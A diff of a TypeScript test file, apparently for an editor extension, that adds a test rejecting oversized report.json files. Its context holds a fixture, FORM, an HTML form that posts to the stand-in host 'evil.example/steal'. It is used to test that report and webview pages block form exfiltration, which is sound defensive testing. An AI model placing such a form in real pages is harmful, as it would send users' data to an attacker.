@@ -13,7 +13,7 @@ import { reportCsp, reportHtml } from '../../src/report/reportHtml';
 import { reportText } from '../../src/report/reportText';
 import { explorerCsp, explorerHtml } from '../../src/webviews/expertExplorer/explorerHtml';
 import { planPreviewHtml, previewCsp } from '../../src/webviews/planPreview/planPreviewHtml';
-import { readReport } from '../../src/webviews/report/readReport';
+import { MAX_REPORT_BYTES, readReport } from '../../src/webviews/report/readReport';
 
 const FORM = '<form action="https://evil.example/steal"><button>Continue</button></form>';
 const E = 4;
@@ -142,6 +142,15 @@ describe('report.json on read', () => {
         where,
       );
     }
+  });
+});
+
+describe('report.json size', () => {
+  it('refuses a file larger than any report before reading it', async () => {
+    const dir = await savedReport();
+    const file = path.join(dir, 'report.json');
+    fs.truncateSync(file, MAX_REPORT_BYTES + 1); // sparse: nothing is written
+    assert.throws(() => readReport(dir), (e: MoeError) => e.code === 'E_INPUT' && e.message.startsWith(`${file} is ${MAX_REPORT_BYTES + 1} bytes`));
   });
 });
 
